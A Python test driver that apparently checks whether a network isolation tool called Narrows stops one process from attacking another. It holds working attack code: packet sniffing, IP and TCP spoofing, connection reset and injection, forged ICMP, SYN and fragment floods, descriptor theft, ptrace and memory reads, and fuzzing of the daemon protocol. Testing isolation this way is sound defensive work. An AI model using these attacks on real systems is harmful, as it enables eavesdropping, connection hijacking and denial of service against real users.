"""One attack on two victims, and whether it succeeded as far as the attacker can tell.

Arguments: the attack, the user who tries it, the server's address, the client's, the interface they are
on, the server's process. The last line says `succeeded` or `failed: WHY`. An attack that needs the victims
to do something says `ready` and waits for a line; one that has the victims judge says `done`.
"""

import array
import ctypes
import encodings.idna  # while the libraries can be read
import errno
import os
import random
import resource
import signal
import socket
import struct
import subprocess
import sys
import tempfile

PORT = 5000
SECRET = b"the secret of both"
FORGED = b"forged"
#: How long a packet may take that ought to come.
PATIENCE = 3
FIN, RST, PSH, ACK = 1, 4, 8, 16

CLIENT_USER = 4002
CLONE_NEWUSER = 0x10000000
PR_SET_PDEATHSIG = 1
PR_SET_DUMPABLE = 4
PTRACE_SEIZE = 0x4206
#: What has to be got ready by who may do more than the attacker.
BEGIN_AS_ROOT = ["reuse_pid", "replay", "guess_handles"]
#: A program that makes some sockets, and tries what the attacker would.
TALK = """
import socket, sys
for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:
    for act in (
        lambda made: made.bind((sys.argv[1], 5000)),
        lambda made: made.bind(("0.0.0.0", 5000)),
        lambda made: made.listen(),
        lambda made: made.connect((sys.argv[1], 5000)),
        lambda made: made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1),
        lambda made: made.getpeername(),
    ):
        with socket.socket(type=kind) as made:
            try:
                act(made)
            except OSError:
                pass
"""
#: What connect(2) chooses from.
PORTS = range(32768, 61000)

name, user, server, client, interface, victim = sys.argv[1:7]


def become(user):
    if user != 0:
        os.setgroups([])
        os.setresgid(user, user, user)
        os.setresuid(user, user, user)


def wait():
    print("ready", flush=True)
    sys.stdin.readline()


def checksum(data):
    words = array.array("H", data + b"\0" * (len(data) % 2))
    total = sum(words)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, destination, protocol, payload):
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    length = 20 + len(payload)
    header = struct.pack("!BBHHHBBH", 0x45, 0, length, 7, 0, 64, protocol, 0) + addresses
    header = header[:10] + struct.pack("H", checksum(header)) + header[12:]
    return header + payload


def with_checksum(source, destination, protocol, segment, at):
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination)
    pseudo += struct.pack("!BBH", 0, protocol, len(segment))
    return segment[:at] + struct.pack("H", checksum(pseudo + segment)) + segment[at + 2 :]


def datagram(source, destination):
    header = struct.pack("!HHHH", 4000, PORT + 1, 8 + len(FORGED), 0)
    return packet(source, destination, 17, header + FORGED)


def raw():
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return sender


def everything():
    """All frames of all interfaces, those of others too (PACKET_MR_PROMISC)."""
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    for index, _ in socket.if_nameindex():
        try:
            sniffer.setsockopt(263, 1, struct.pack("iHH8s", index, 1, 0, b""))
        except OSError:
            pass  # one that is not the kernel's
    sniffer.setblocking(False)
    return sniffer


def frames(sniffer):
    while True:
        try:
            yield sniffer.recv(65536)
        except BlockingIOError:
            return


def connect():
    stream = socket.create_connection((server, PORT), PATIENCE)
    stream.sendall(b"let me in")
    return stream.recv(100) == b"let me in"


def send():
    sender = socket.socket(type=socket.SOCK_DGRAM)
    sender.settimeout(PATIENCE)
    sender.sendto(b"take this", (server, PORT + 1))
    return sender.recv(100) == b"take this"


def bind():
    listener = socket.socket()
    listener.bind((server, PORT))
    listener.listen()
    return True


def bind_everywhere():
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("0.0.0.0", PORT))
    listener.listen()
    wait()


def bind_while_it_runs():
    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, option, 1)
        listener.bind((server, PORT))
        listener.listen()
    return True


def pose_as_client():
    stream = socket.socket()
    stream.bind((client, 0))
    stream.settimeout(PATIENCE)
    stream.connect((server, PORT))
    return True


def bind_to_interface():
    sender = socket.socket(type=socket.SOCK_DGRAM)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
    sender.settimeout(PATIENCE)
    sender.sendto(b"take this", (server, PORT + 1))
    return sender.recv(100) == b"take this"


def join_group():
    listener = socket.socket(type=socket.SOCK_DGRAM)
    group = socket.inet_aton("239.1.2.3") + socket.inet_aton(server)
    listener.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group)
    return True


def sniff():
    sniffer = everything()
    wait()
    return any(SECRET in frame for frame in frames(sniffer))


def listen_raw():
    listeners = [socket.socket(socket.AF_INET, socket.SOCK_RAW, number) for number in (6, 17)]
    for listener in listeners:
        listener.setblocking(False)
    wait()
    return any(SECRET in packet for listener in listeners for packet in frames(listener))


def claim_everything():
    """By Narrows' own option (docs/frames.md)."""
    holders = []
    for index, _ in socket.if_nameindex():
        holder = everything()
        try:
            holder.setsockopt(0x4E52, 1, struct.pack("=I24x", index))
        except OSError:
            pass  # one where it may not
        holders.append(holder)
    wait()
    return any(SECRET in frame for holder in holders for frame in frames(holder))


def inspect_everything():
    """Asks to decide about every packet, at every hook (docs/inspect.md), and rules for none."""
    inspectors = []
    for hook in range(5):
        inspector = to_daemon()
        wish = b"NRWI", 1, hook, 1, 0, 0, 0, 0, 0, 100, 4096
        inspector.send(struct.pack("!4sBBBBHHIIII", *wish))
        error, = struct.unpack_from("!H", inspector.recv(12), 6)
        if error:
            raise OSError(error, os.strerror(error))
        inspector.setblocking(False)
        inspectors.append(inspector)
    wait()
    return any(SECRET in packet for inspector in inspectors for packet in frames(inspector))


def tap_everything():
    """By Narrows' own option (docs/frames.md)."""
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sniffer.setsockopt(0x4E52, 2, 15)
    sniffer.setblocking(False)
    wait()
    return any(SECRET in frame for frame in frames(sniffer))


def watched(words):
    """What the command of Narrows prints until the attack is over."""
    with tempfile.TemporaryFile() as file:
        command = [os.environ["NARROWS"], *words]
        watching = subprocess.Popen(command, stdout=file, stderr=subprocess.PIPE, text=True)
        watching.stderr.readline()
        wait()
        watching.send_signal(signal.SIGINT)
        watching.wait()
        file.seek(0)
        return file.read()


def dump_everything():
    stages = "receive,filter,reassembled,transmit,drop"
    return SECRET in watched(["dump", "-U", "--stage", stages, "-w", "-"])


def trace_everything():
    return server.encode() in watched(["trace", "-j"])


def spoof():
    raw().sendto(datagram(client, server), (server, 0))


def with_their_numbers(act):
    """Hears their connection's ports and numbers, and has `act` send something with them."""
    sniffer = everything()
    wait()
    for frame in frames(sniffer):
        ip = frame[14:]
        if len(ip) < 40 or ip[9] != 6 or ip[12:16] != socket.inet_aton(client):
            continue
        source_port, port, sequence, acknowledged = struct.unpack("!HHII", ip[20:32])
        data = struct.unpack("!H", ip[2:4])[0] - 20 - (ip[32] >> 4) * 4
        if port == PORT and data:
            act(source_port, (sequence + data) & 0xFFFFFFFF, acknowledged, ip)
            print("done", flush=True)
            sys.exit()
    return False


def segment(source_port, sequence, acknowledged, flags, data=b""):
    """Sends the server a segment as from the client."""
    ports = source_port, PORT
    made = struct.pack("!HHIIBBHHH", *ports, sequence, acknowledged, 0x50, flags, 500, 0, 0) + data
    made = with_checksum(client, server, 6, made, 16)
    raw().sendto(packet(client, server, 6, made), (server, 0))


def reset():
    return with_their_numbers(lambda port, next, acked, _: segment(port, next, 0, RST))


def finish():
    return with_their_numbers(lambda port, next, acked, _: segment(port, next, acked, FIN | ACK))


def inject():
    return with_their_numbers(lambda port, next, acked, _: segment(port, next, acked, PSH | ACK, FORGED))


def their_ports(table):
    """The client's ports, as the system tells everybody; else all that it may have."""
    own = int.from_bytes(socket.inet_aton(client), "little")
    with open(f"/proc/net/{table}") as lines:
        rows = [line.split()[1:3] for line in lines][1:]
    local = [row[0].split(":") for row in rows if not row[1].startswith("00000000")]
    known = [int(port, 16) for address, port in local if int(address, 16) == own]
    return known or PORTS


def guess():
    """Resets, ends and data with the right ports where they are known, and any numbers."""
    ports = random.choices(their_ports("tcp"), k=1000)
    for port in ports:
        sequence, acknowledged = random.randbytes(4), random.randbytes(4)
        numbers = int.from_bytes(sequence), int.from_bytes(acknowledged)
        segment(port, *numbers, RST)
        segment(port, *numbers, FIN | ACK)
        segment(port, *numbers, PSH | ACK, FORGED)


def error(kind, code, rest, quoted, to=client):
    """Sends an ICMP error about a packet of the victims."""
    message = struct.pack("!BBHI", kind, code, 0, rest) + quoted[:28]
    message = message[:2] + struct.pack("H", checksum(message)) + message[4:]
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    with sender:
        sender.sendto(message, (to, 0))


def about_datagrams(kind, code, rest, ports):
    message = struct.pack("!BBHI", kind, code, 0, rest)
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for port in ports:
        quoted = packet(client, server, 17, struct.pack("!HHHH", port, PORT + 1, 26, 0))
        whole = message + quoted
        whole = whole[:2] + struct.pack("H", checksum(whole)) + whole[4:]
        sender.sendto(whole, (client, 0))


def unreachable():
    about_datagrams(3, 3, 0, their_ports("udp"))


def too_big():
    about_datagrams(3, 4, 600, their_ports("udp"))


def redirect():
    about_datagrams(5, 1, int.from_bytes(socket.inet_aton("10.77.0.9")), their_ports("udp"))


def too_big_for_their_connection():
    return with_their_numbers(lambda port, next, acked, quoted: error(3, 4, 600, quoted))


def inject_frame():
    """A frame from the client to the server, into every interface that takes it."""
    failed = None
    for _, interface in socket.if_nameindex():
        sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        ethernet = b"\xff" * 6 + b"\2\0\0\0\0\1" + b"\x08\0"
        try:
            sender.bind((interface, 0x0800))
            sender.send(ethernet + datagram(client, server))
        except OSError as error:
            failed = error
    if failed:
        print(failed, file=sys.stderr)


def ask_by_arp():
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x806))
    wire.bind((interface, 0))
    mac = wire.getsockname()[4]
    wire.settimeout(PATIENCE)
    own = socket.inet_aton("10.77.0.9")
    question = struct.pack("!HHBBH", 1, 0x800, 6, 4, 1) + mac + own + b"\0" * 6
    wire.send(b"\xff" * 6 + mac + b"\x08\x06" + question + socket.inet_aton(server))
    while True:
        frame = wire.recv(100)
        if frame[20:22] == b"\0\2" and frame[28:32] == socket.inet_aton(server):
            return True


def spoof_from_the_wire():
    raw().sendto(datagram(client, server), (server, 0))


def steal_descriptor():
    libc = ctypes.CDLL(None, use_errno=True)
    process = libc.syscall(434, int(victim), 0)
    stolen = [libc.syscall(438, process, number, 0) for number in range(3, 9)]
    if max(stolen) < 0:
        raise OSError(ctypes.get_errno(), "")
    return True


def read_memory():
    with open(f"/proc/{victim}/mem", "rb") as memory:
        return bool(memory.read(1))


def debug():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(PTRACE_SEIZE, int(victim), 0, 0) < 0:
        raise OSError(ctypes.get_errno(), "")
    return True


def pose_in_user_namespace():
    """Is the client's user, in a user namespace of its own."""
    own = os.getuid()
    libc = ctypes.CDLL(None, use_errno=True)
    # Who has changed users may not write to his own files in /proc otherwise.
    libc.prctl(PR_SET_DUMPABLE, 1)
    if libc.unshare(CLONE_NEWUSER) < 0:
        raise OSError(ctypes.get_errno(), "")
    with open("/proc/self/uid_map", "w") as uids:
        uids.write(f"{CLIENT_USER} {own} 1")
    assert os.getuid() == CLIENT_USER
    return pose_as_client()


def in_process(number, act):
    """What `act` returns in a process of that number; `None`: somebody else got it."""
    with open("/proc/sys/kernel/ns_last_pid", "w") as last:
        last.write(str(number - 1))
    child = os.fork()
    if child == 0:
        if os.getpid() != number:
            os._exit(2)
        become(int(user))
        try:
            os._exit(0 if act() else 1)
        except OSError as error:
            os._exit(100 + error.errno)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    return None if status == 2 else status


def reuse_pid():
    """Gets the process number of a client that has died, and poses as it."""
    for _ in range(100):
        dead = os.fork()
        if dead == 0:
            become(CLIENT_USER)
            pose_as_client()
            os.kill(os.getpid(), signal.SIGKILL)
        os.waitpid(dead, 0)
        status = in_process(dead, pose_as_client)
        if status is not None:
            break
    else:
        raise TimeoutError
    if status >= 100:
        raise OSError(status - 100, "")
    return status == 0


def many(what, limit):
    """As many as there may be; all are held."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    held = []
    try:
        while len(held) < limit:
            held.append(what(len(held)))
    except (OSError, IndexError) as error:
        print(len(held), "of them, then", error, file=sys.stderr)
    return held


def in_processes(count, act):
    """Has each of several processes do it, and hold what it got until this one ends."""
    reading, writing = os.pipe()
    for index in range(count):
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(PR_SET_PDEATHSIG, signal.SIGKILL)
            held = act(index)
            os.write(writing, b"x")
            signal.pause()
    os.close(writing)
    for _ in range(count):
        os.read(reading, 1)


def exhaust_ports():
    """Takes every port that a system gives to who asks for none in particular."""

    def take(port):
        held = socket.socket()
        try:
            held.bind(("0.0.0.0", port))
        except OSError as error:
            if error.errno != errno.EADDRINUSE:
                raise
        return held

    share = len(PORTS) // 2
    in_processes(2, lambda half: many(lambda at: take(PORTS[half * share + at]), share))
    wait()


def exhaust_memory():
    """Connections to itself that nobody reads from, their buffers full."""
    listener = socket.create_server(("127.0.0.1", 0), backlog=4096)

    def fill(_):
        stream = socket.create_connection(listener.getsockname())
        stream.setblocking(False)
        try:
            for _ in range(64):
                stream.send(b"x" * 65536)
        except BlockingIOError:
            pass
        return stream

    held = many(fill, 128)
    wait()
    del held


def fill_neighbors():
    """Asks for every address of the network by the wire."""
    sender = socket.socket(type=socket.SOCK_DGRAM)
    for host in range(1, 255):
        sender.sendto(b"x", (f"10.77.0.{host}", 9))


def syn_flood():
    """Handshakes that are begun and left, from any address."""
    sender = raw()
    for number in range(5000):
        source = f"10.77.0.{10 + number % 240}"
        syn = struct.pack("!HHIIBBHHH", 1024 + number, PORT, number, 0, 0x50, 2, 500, 0, 0)
        sender.sendto(packet(source, server, 6, with_checksum(source, server, 6, syn, 16)), (server, 0))


def fill_reassembly():
    """Beginnings of datagrams that have no end: more than any host keeps."""
    sender = raw()
    for number in range(8000):
        whole = packet("10.77.0.9", server, 17, b"x" * 1400)
        header = whole[:4] + struct.pack("!HHBBH", number, 0x2000, 64, 17, 0) + whole[12:20]
        sender.sendto(header + whole[20:], (server, 0))


def flood_broadcast():
    sender = socket.socket(type=socket.SOCK_DGRAM)
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    if user == "0":
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
    for _ in range(2000):
        for address in ["255.255.255.255", "10.99.0.255"][: 2 if user == "0" else 1]:
            try:
                sender.sendto(FORGED, (address, PORT + 1))
            except OSError as error:
                if error.errno not in (errno.ENOBUFS, errno.ENETUNREACH):
                    raise


def to_daemon():
    session = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    session.connect(os.environ["NARROWS_SOCKET"])
    session.settimeout(10 * PATIENCE)
    return session


def many_sessions():
    """Processes that only open sessions."""
    in_processes(8, lambda _: many(lambda _: to_daemon(), 1200))
    wait()


def false_credentials():
    """Says that it is the client."""
    session = to_daemon()
    claim = struct.pack("iII", int(victim), CLIENT_USER, CLIENT_USER)
    session.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, claim)])
    return True


def between(front):
    """Carries the messages of one session; returns what the program said."""
    program_end, _ = front.accept()
    daemon_end = to_daemon()
    said = []
    with program_end, daemon_end:
        while True:
            data, descriptors, _, _ = socket.recv_fds(program_end, 65536, 4)
            if not data:
                return said
            said.append(data)
            socket.send_fds(daemon_end, [data], descriptors)
            answer, theirs, _, _ = socket.recv_fds(daemon_end, 65536, 4)
            socket.send_fds(program_end, [answer], theirs)
            for descriptor in descriptors + theirs:
                os.close(descriptor)


def recorded():
    """What a program says to its daemon, in its order: this process stands between them."""
    path = os.path.join(tempfile.mkdtemp(), "between")
    front = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    front.bind(path)
    front.listen()
    environment = dict(os.environ, NARROWS_SOCKET=path)
    words = [os.environ["NARROWS"], "run", "--", sys.executable, "-c", TALK, server]
    program = subprocess.Popen(words, env=environment)
    become(int(user))
    # The first session is of who starts the program, and says nothing.
    between(front)
    said = between(front)
    front.close()
    program.wait()
    assert len(said) > 4, said
    return said


def say_again(change, descriptors):
    """Says what was recorded in sessions of its own; no descriptor passes before the first of it."""
    said = recorded()
    for _ in range(20):
        session = to_daemon()
        session.settimeout(0.1)
        for place, data in enumerate(said):
            try:
                if place:
                    socket.send_fds(session, [change(data)], descriptors())
                else:
                    session.send(data)
                answer, theirs, _, _ = socket.recv_fds(session, 65536, 4)
            except (TimeoutError, BrokenPipeError, ConnectionResetError):
                break
            for descriptor in theirs:
                os.close(descriptor)
            if not answer:
                break


def replay():
    """Whole, and with bytes that are others."""
    noise = random.Random(7)

    def corrupt(data):
        if noise.random() < 0.5:
            return data
        at = noise.randrange(len(data))
        return data[:at] + noise.randbytes(1) + data[at + 1 :]

    say_again(corrupt, lambda: [])


def guess_handles():
    """About sockets that it doesn't have, by descriptors of its own."""
    noise = random.Random(8)
    own = [*socket.socketpair(), *socket.socketpair(type=socket.SOCK_SEQPACKET), socket.socket()]
    own += [open("/dev/null")]
    say_again(lambda data: data, lambda: [noise.choice(own).fileno()])


def garbage():
    """Sessions of noise, with descriptors that are nobody's business."""
    noise = random.Random(7)
    for _ in range(64):
        session = to_daemon()
        for _ in range(8):
            stray = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2]))]
            try:
                session.sendmsg([noise.randbytes(noise.randrange(1, 200))], stray)
            except OSError:
                break


def stop_with_full_buffers():
    listener = socket.create_server(("127.0.0.1", 0))
    held = []
    for _ in range(32):
        stream = socket.create_connection(listener.getsockname())
        stream.setblocking(False)
        try:
            while True:
                stream.send(b"x" * 65536)
        except BlockingIOError:
            held.append(stream)
    print("ready", flush=True)
    os.kill(os.getpid(), signal.SIGSTOP)


if name not in BEGIN_AS_ROOT:
    become(int(user))
try:
    succeeded = globals()[name]()
    if succeeded is None:
        print("done")
    else:
        print("succeeded" if succeeded else "failed: there is nothing to see")
except TimeoutError:
    print("failed: no answer")
except OSError as error:
    print(f"failed: {errno.errorcode.get(error.errno, error)}")
